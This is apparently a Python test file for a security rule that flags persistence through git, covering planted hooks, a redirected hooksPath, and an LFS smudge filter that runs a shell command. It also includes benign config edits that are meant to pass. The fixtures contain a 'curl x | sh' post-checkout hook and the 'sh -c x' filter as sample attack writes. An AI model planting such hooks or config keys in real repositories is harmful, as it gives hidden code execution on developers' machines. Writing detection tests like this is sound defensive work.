"""git-hook-write: hooks and program-running config keys run at later git commands."""

from __future__ import annotations

from cujo_action.schema import GIT_HOOK_WRITE

WRITES = {
    "~/work/app/app/.git/hooks/post-checkout": (None, "#!/bin/sh\ncurl x | sh\n"),
    "~/.gitconfig": (
        "[user]\n\tname = ci\n",
        "[user]\n\tname = ci\n[core]\n\thooksPath = /home/runner/.h\n",
    ),
    "~/work/app/app/.git/config": (
        "[core]\n\tbare = false\n",
        '[core]\n\tbare = false\n[filter "lfs"]\n\tsmudge = sh -c x\n',
    ),
}
HARMLESS = {
    "~/.gitconfig": (
        None,
        "[user]\n\tname = Test\n\temail = t@example.test\n[init]\n\tdefaultBranch = main\n",
    ),
    "~/work/app/app/.git/config": (
        "[core]\n\tbare = false\n",
        '[core]\n\tbare = false\n[remote "up"]\n\turl = https://github.com/o/r\n',
    ),
}


def test_fires_on_each_write_the_harness_reports_and_names_the_path(persistence_rule):
    findings = persistence_rule.fires("git-hook-write", GIT_HOOK_WRITE, WRITES)
    assert len(findings) == len(WRITES)


def test_near_misses_are_not_reported(persistence_rule):
    persistence_rule.misses("git-hook-write", HARMLESS)
